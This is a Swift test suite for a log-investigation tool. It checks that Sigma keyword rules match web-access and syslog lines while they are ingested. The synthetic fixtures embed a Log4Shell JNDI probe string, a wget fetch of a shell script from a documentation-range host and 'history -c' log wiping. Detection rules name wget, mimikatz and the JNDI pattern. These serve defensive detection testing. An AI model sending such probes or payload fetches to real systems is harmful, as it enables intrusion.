import DwellAnalysis
import DwellCore
import DwellIngest
import DwellPipeline
import DwellSigma
import DwellTestSupport
import Foundation
import Parsers
import Testing

/// Keywords searched while the ingest reads the text files (`SigmaLineScan`, issue #21): the same matches as reading
/// the lines back after the analysis, without that second read.
@Suite struct SigmaLineScanTests {
    /// Web requests and syslog lines, with a Log4Shell probe, a `wget` and a history wipe here and there.
    static func web(_ n: Int, from minute: Int) -> String {
        (0..<n).map { k in
            let path = k % 7 == 3 ? "/?x=${jndi:ldap://198.51.100.4/a}" : (k % 5 == 1 ? "/wp-login.php" : "/index.html")
            let m = minute + k
            return "203.0.113.\(k % 9 + 1) - - [10/Mar/2026:\(String(format: "%02d:%02d", 8 + m / 60, m % 60)):00 +0000] \"GET \(path) HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\""
        }.joined(separator: "\n") + "\n"
    }

    static func syslog(_ n: Int) -> String {
        let programs = ["sshd", "CRON", "sudo", "kernel"]
        return (0..<n).map { k in
            let message = k % 6 == 2 ? "session: wget http://198.51.100.4/x.sh" : (k % 4 == 1 ? "cmd: history -c" : "ok \(k)")
            return "Mar 10 09:\(String(format: "%02d:%02d", k / 60, k % 60)) web01 \(programs[k % 4])[\(100 + k)]: \(message)"
        }.joined(separator: "\n") + "\n"
    }

    /// Pure keyword rules over web and Linux sources, and a `selection and keywords` rule.
    static let rules = SigmaHarness.rules(
        [
            webRule("Log4Shell", "    keywords:\n        - '${jndi:'\n    condition: keywords"),
            webRule("Login probe", "    sel:\n        cs-method: GET\n    kw:\n        - 'wp-login'\n    condition: sel and kw"),
            "title: Wget\nid: wget\nlogsource:\n    product: linux\ndetection:\n    keywords:\n        - 'wget'\n    condition: keywords\n",
            "title: History\nid: history\nlogsource:\n    product: linux\n    service: cron\ndetection:\n    keywords:\n        - 'history -c'\n    condition: keywords\n",
            "title: SSHD wget\nid: sshd-wget\nlogsource:\n    product: linux\n    service: sshd\ndetection:\n    keywords:\n        - 'WGET'\n    condition: keywords\n",
        ].joined(separator: "---\n"))

    /// Plain, rotated and gzip files: every file whose keywords are searched during the ingest is read once; the
    /// matches (events, in order) are those of reading the lines back, in every file, `.gz` included.
    @Test func textLogsAreSearchedAsTheyAreReadAndNeverReadBack() throws {
        let dir = try Fixture.temporaryDirectory("sigma-line-scan")
        try Fixture.write(Self.web(40, from: 120), to: dir.appendingPathComponent("access.log"))
        try Fixture.write(Self.web(40, from: 60), to: dir.appendingPathComponent("access.log.1"))
        try Fixture.write(Fixture.gzip(Array(Self.web(40, from: 0).utf8)), to: dir.appendingPathComponent("access.log.2.gz"))
        try Fixture.write(Fixture.gzip(Array(Self.syslog(90).utf8)), to: dir.appendingPathComponent("syslog.1.gz"))
        let files = Discovery().discover([dir.path]).files
        #expect(files.count == 4)
        let options = IngestOptions(jobs: 2)
        let (store, _, scanned) = InvestigationRun.buildStore(files: files, options: options, sigma: Self.rules)
        #expect(scanned?.fileCount == 4)
        let reads = ReadCounter()
        let direct = SigmaFindings.lineReader(files: files, options: options)
        let counting: SigmaLineReader = { file, lines, body in
            reads.add(file)
            return direct(file, lines, body)
        }
        let during = SigmaEngine(store: store, lineReader: counting, scanned: scanned).run(Self.rules)
        #expect(reads.files.isEmpty, "files read back: \(reads.files)")
        let readBack = SigmaEngine(store: store, lineReader: counting).run(Self.rules)
        #expect(reads.files == Set(files.map(\.id)))
        #expect(SigmaHarness.sameMatches(during, readBack))
        var byRule: [String: Set<String>] = [:]
        for m in during.matches {
            let p = m.positions[0]
            let path = files.first { $0.id == store.fileID[p] }?.displayPath ?? ""
            byRule[Self.rules.runnable[m.rule].rule.title, default: []].insert(path.components(separatedBy: "/").last ?? "")
        }
        #expect(byRule["Log4Shell"] == ["access.log", "access.log.1", "access.log.2.gz"])
        #expect(byRule["Login probe"] == ["access.log", "access.log.1", "access.log.2.gz"])
        #expect(byRule["Wget"] == ["syslog.1.gz"])
        #expect(byRule["History"] == ["syslog.1.gz"])
        // `service: sshd` takes only sshd's lines: its keyword is searched in those only (k % 4 == 0, k % 6 == 2).
        let sshd = during.matches.filter { Self.rules.runnable[$0.rule].rule.title == "SSHD wget" }.map { Int(store.line[$0.positions[0]]) }
        #expect(sshd == (0..<90).filter { $0 % 4 == 0 && $0 % 6 == 2 }.map { $0 + 1 })
        // The cron rule is the service's: CRON lines only (k % 4 == 1), all of which wipe the history.
        #expect(during.matches.filter { Self.rules.runnable[$0.rule].rule.title == "History" }.count == 90 / 4 + 1)
    }

    /// A source whose rules need keywords only where a field test holds (`selection and keywords`) leaves its lines
    /// to the read-back of those few; a pure keyword rule makes its format's lines searched during the ingest.
    @Test func onlyRulesWhereKeywordsDecideAloneMakeTheIngestSearch() throws {
        let selective = SigmaHarness.rules(webRule("Login probe", "    sel:\n        cs-method: GET\n    kw:\n        - 'wp-login'\n    condition: sel and kw"))
        #expect(SigmaLineScan(selective) == nil)
        let filtered = SigmaHarness.rules(webRule("Probe", "    kw:\n        - 'wp-login'\n    filter:\n        c-ip: 10.0.0.1\n    condition: kw and not filter"))
        let scan = try #require(SigmaLineScan(filtered))
        #expect(scan.searches(try #require(Registry.id(of: "combined"))))
        #expect(!scan.searches(try #require(Registry.id(of: "syslog"))))
        // Windows sources read their files back for record fields: their keywords are searched there too.
        let windows = SigmaHarness.rules(
            "title: W\nid: w\nlogsource:\n    product: windows\n    service: security\ndetection:\n    keywords:\n        - 'mimikatz'\n    condition: keywords\n")
        #expect(windows.loadedCount == 1)
        #expect(SigmaLineScan(windows) == nil)
    }

    /// Without Sigma rules the ingest searches nothing and the store is what it was.
    @Test func withoutKeywordRulesTheIngestIsUnchanged() throws {
        let h = try SigmaHarness(["access.log": Self.web(30, from: 0)])
        let fields = SigmaHarness.rules(webRule("Fields", "    sel:\n        cs-uri-stem: /wp-login.php\n    condition: sel"))
        #expect(SigmaLineScan(fields) == nil)
        let built = InvestigationRun.buildStore(files: h.files, options: h.options, sigma: fields)
        #expect(built.scanned == nil)
        #expect(built.store.count == h.store.count)
        #expect((0..<h.store.count).allSatisfy { built.store.line[$0] == h.store.line[$0] && built.store.fileID[$0] == h.store.fileID[$0] })
    }
}

/// The files a line reader was asked for (from several threads).
final class ReadCounter: @unchecked Sendable {
    private let lock = NSLock()
    private var seen = Set<UInt32>()
    func add(_ f: UInt32) { lock.withLock { _ = seen.insert(f) } }
    var files: Set<UInt32> { lock.withLock { seen } }
}
